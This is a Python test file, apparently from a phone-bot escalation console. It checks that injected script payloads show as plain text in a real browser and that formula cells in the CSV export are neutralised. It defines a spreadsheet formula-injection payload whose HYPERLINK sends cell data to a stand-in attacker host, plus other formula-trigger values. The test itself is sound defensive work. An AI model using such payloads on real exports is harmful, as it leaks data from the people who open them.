"""Caller- and agent-controlled text in the real console, in a real Chromium: shown as text,
never run; the CSV export's cells are inert in a spreadsheet. (Here the payloads go in the way
a call's handoff puts them; test_real_call_console.py sends one through a whole call.)"""

from __future__ import annotations

import pytest

from escalation.context import build_context

from .console_browser import SCRIPT, XSS, assert_nothing_ran, chromium, export_csv, log_in

pytestmark = pytest.mark.slow

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


async def test_payloads_are_text_in_the_console_and_inert_in_the_export(bot) -> None:
    services = bot.services
    # What a call hands over: the caller id from Twilio's From, the transcript, the ticket.
    await services.enqueue(build_context(
        "call-xss", XSS, "twilio", "caller_request", "normal", "check_balance", 0.9, {"name": SCRIPT},
        [("bot", "Hello, how can I help?"), ("caller", XSS + SCRIPT)]))
    await services.create_ticket({"category": "fees", "description": FORMULA + " " + XSS,
                                  "account_reference": "+1+1", "reference": "@SUM(1)"})
    async with chromium() as browser:
        page, dialogs = await log_in(browser, bot.url, "sam")
        entry = await page.wait_for_selector('.entry[data-call-id="call-xss"]', timeout=10000)
        assert XSS in await entry.inner_text()  # shown as the text it is
        await page.click(".tab[data-tab=tickets]")
        row = await page.wait_for_selector("#tickets-table tbody tr")
        assert FORMULA in await row.inner_text()
        await assert_nothing_ran(page, dialogs)
        rows = await export_csv(page, "tickets")
    assert any(v.startswith("'=HYPERLINK") for r in rows for v in r.values())
